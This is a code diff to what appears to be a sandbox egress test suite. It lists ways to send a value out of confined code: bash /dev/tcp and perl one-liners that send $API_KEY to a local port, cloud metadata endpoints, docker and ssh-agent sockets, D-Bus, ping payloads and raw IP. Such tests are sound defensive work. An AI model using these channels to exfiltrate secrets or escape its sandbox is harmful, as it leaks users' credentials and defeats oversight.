@@ -3,14 +3,17 @@
 import errno
 import os
 import socket
+import pathlib
 import threading
+
+from secluded import MARK, METADATA
 
 from .technique import Technique
 
 G = "network"
 
 
-def sent(name, what, code, address="127.0.0.1", kind=socket.SOCK_STREAM, family=socket.AF_INET):
+def sent(name, what, code, address="127.0.0.1", kind=socket.SOCK_STREAM, family=socket.AF_INET, needs=()):
     """Code that sends to the ear at `p`, a port or a path."""
 
     def act(place):
@@ -19,9 +22,11 @@ def sent(name, what, code, address="127.0.0.1", kind=socket.SOCK_STREAM, family=
         with place.ear(at, kind, family) as heard:
             seen = place.python(f"import socket\np = {heard.port!r}\n" + code)
         place.empty()
+        if family == socket.AF_UNIX and pathlib.Path(at).parent.parent == pathlib.Path("/tmp"):
+            os.rmdir(pathlib.Path(at).parent)
         return heard.data + seen.output
 
-    Technique(G, name, what, act)
+    Technique(G, name, what, act, needs)
 
 
 def called(name, what, argv, needs=(), as_input=False):
@@ -51,6 +56,14 @@ sent("abstract", "over an abstract Unix socket", UNIX, lambda place: f"\0tacit-t
 sent("unix", "over a Unix socket in the working directory", UNIX, lambda place: str(place.directory / "s"), family=socket.AF_UNIX)
 sent("unix-tmp", "over a Unix socket in /tmp", UNIX, lambda place: fresh(f"/tmp/tacit-table-{os.getpid()}.sock"), family=socket.AF_UNIX)
 sent("unix-run", "over a Unix socket in the runtime directory, where D-Bus and agents have theirs", UNIX, lambda place: fresh(str(place.runtime / "bus")), family=socket.AF_UNIX)
+sent("metadata", "to the address at which a cloud serves a machine its credentials", f"s = socket.create_connection(('{METADATA[0]}', p), 5); s.sendall(v)", METADATA[0], needs=METADATA[:1])
+sent("metadata6", "to the one on IPv6", f"s = socket.create_connection(('{METADATA[1]}', p), 5); s.sendall(v)", METADATA[1], family=socket.AF_INET6, needs=METADATA[1:])
+sent("metadata-http", "to the same in an HTTP request", f"import urllib.request; urllib.request.urlopen(f'http://{METADATA[0]}:{{p}}/latest/meta-data/?' + v.decode(), timeout=5)", METADATA[0], needs=METADATA[:1])
+sent("dbus", "over the D-Bus of a desktop, `/run/user/UID/bus`", UNIX, lambda place: fresh(f"/run/user/{user(place)}/bus"), family=socket.AF_UNIX, needs=(str(MARK),))
+sent("dbus-system", "over the machine's D-Bus", UNIX, lambda place: fresh("/run/dbus/system_bus_socket"), family=socket.AF_UNIX, needs=(str(MARK),))
+sent("docker", "over docker's socket, `/var/run/docker.sock`", UNIX, lambda place: fresh("/var/run/docker.sock"), family=socket.AF_UNIX, needs=(str(MARK),))
+sent("ssh-agent", "over an ssh-agent's socket, as `SSH_AUTH_SOCK` names it", UNIX, lambda place: fresh(f"/tmp/ssh-{os.getpid()}/agent.{os.getpid()}"), family=socket.AF_UNIX)
+sent("tmux", "over a socket of tmux, below `/tmp/tmux-UID`", UNIX, lambda place: fresh(f"/tmp/tmux-{user(place)}-{os.getpid()}/default"), family=socket.AF_UNIX)
 sent("unix-datagram", "over a datagram Unix socket", "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(v, p)",
      lambda place: str(place.directory / "d"), socket.SOCK_DGRAM, socket.AF_UNIX)
 sent("descriptor", "as a descriptor that is passed over a Unix socket", "s = socket.socket(socket.AF_UNIX); s.connect(p); socket.send_fds(s, [v], [0])", lambda place: str(place.directory / "s"), family=socket.AF_UNIX)
@@ -61,6 +74,34 @@ called("curl-proxy", "`curl` with a proxy of the agent's", lambda port: ["/usr/b
 called("bash", "bash's /dev/tcp", lambda port: ["/bin/bash", "-c", f'echo "$API_KEY" >/dev/tcp/127.0.0.1/{port}'])
 called("busybox", "`busybox nc`", lambda port: ["busybox", "nc", "127.0.0.1", str(port)], ("busybox",), as_input=True)
 called("perl", "perl's sockets", lambda port: ["/usr/bin/perl", "-MIO::Socket::INET", "-e", f"IO::Socket::INET->new('127.0.0.1:{port}')->print($ENV{{API_KEY}})"], ("perl",))
+
+
+def user(place):
+    return place.house.owner.pw_uid if place.house.owner else os.geteuid()
+
+
+def echoed(name, what, family, kind, protocol, begin=b"", needs=(), own=False):
+    """In what goes below TCP and UDP: the agent has all that arrives."""
+
+    def act(place):
+        address = "::1" if family == socket.AF_INET6 else "127.0.0.1"
+        with socket.socket(family, socket.SOCK_RAW, protocol) as ear:
+            ear.setblocking(False)
+            seen = place.python(f"import socket\ns = socket.socket({int(family)}, {int(kind)}, {int(protocol)}); s.sendto({begin!r} + v, ('{address}', 0))")
+            heard = b""
+            try:
+                while True:
+                    heard += ear.recv(4096)
+            except BlockingIOError:
+                return heard + seen.output
+
+    Technique(G, name, what, act, needs, own=own)
+
+
+echoed("ping", "in a ping", socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, b"\x08" + bytes(7), ("ping",))
+echoed("ping6", "in a ping on IPv6", socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6, b"\x80" + bytes(7), ("ping",))
+echoed("raw", "over IP itself, by a protocol that is neither TCP nor UDP", socket.AF_INET, socket.SOCK_RAW, 253, own=True)
+echoed("raw6", "over IPv6 itself", socket.AF_INET6, socket.SOCK_RAW, 253, own=True)
 
 
 def netlink(place):
@@ -142,6 +183,7 @@ Technique(G, "vsock", "as the ports of a virtual machine's sockets that the prog
 
 
 def fresh(path):
+    pathlib.Path(path).parent.mkdir(parents=True, exist_ok=True)
     if os.path.exists(path):
         os.unlink(path)
     return path
